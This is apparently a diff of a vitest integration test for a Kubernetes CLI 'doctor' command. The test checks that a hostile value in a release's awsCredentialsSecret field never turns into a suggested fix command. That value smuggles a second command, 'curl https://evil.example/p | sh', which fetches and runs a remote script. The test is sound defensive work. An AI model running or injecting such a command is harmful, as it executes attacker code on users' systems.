@@ -7,17 +7,11 @@
  */
 import { expect, it } from 'vitest';
 import { runCli } from './cliHarness.js';
+import { doctorJsonChecks } from './doctorJson.js';
 import { describeWithCharts, kubeClient, namespacesDeletedAfterAll, testbed, uniqueNamespace } from './testbed.js';
 import { installOnTestbed, SMALL_BUILDKIT } from './testbedInstall.js';
 
 const HOSTILE = 'x; curl https://evil.example/p | sh';
-
-interface JsonCheck {
-  id: string;
-  status: string;
-  summary: string;
-  fix: string | null;
-}
 
 describeWithCharts('doctor: a hostile value in the release never becomes a fix command', () => {
   const kube = kubeClient();
@@ -35,10 +29,9 @@ describeWithCharts('doctor: a hostile value in the release never becomes a fix c
       values: `awsCredentialsSecret: ${JSON.stringify(HOSTILE)}\n`,
       waitForRollout: false,
     });
-    const common = ['doctor', '--kubeconfig', testbed.kubeconfig!, '-n', ns];
+    const target = ['--kubeconfig', testbed.kubeconfig!, '-n', ns];
 
-    const json = await runCli([...common, '--output', 'json']);
-    const checks = (JSON.parse(json.stdout) as { checks: JsonCheck[] }).checks;
+    const checks = await doctorJsonChecks(target);
     const row = checks.find((c) => c.id === 'secrets.aws-credentials')!;
     expect(row).toMatchObject({
       status: 'fail',
@@ -47,7 +40,7 @@ describeWithCharts('doctor: a hostile value in the release never becomes a fix c
     });
     for (const c of checks) expect(c.fix ?? '', `fix of ${c.id}`).not.toMatch(/curl/);
 
-    const text = await runCli(common);
+    const text = await runCli(['doctor', ...target]);
     expect(text.stdout).toMatch(/awsCredentialsSecret in the release's values is not a valid secret name/);
     expect(text.stdout).not.toMatch(/^\s*fix: .*curl/m);
   });
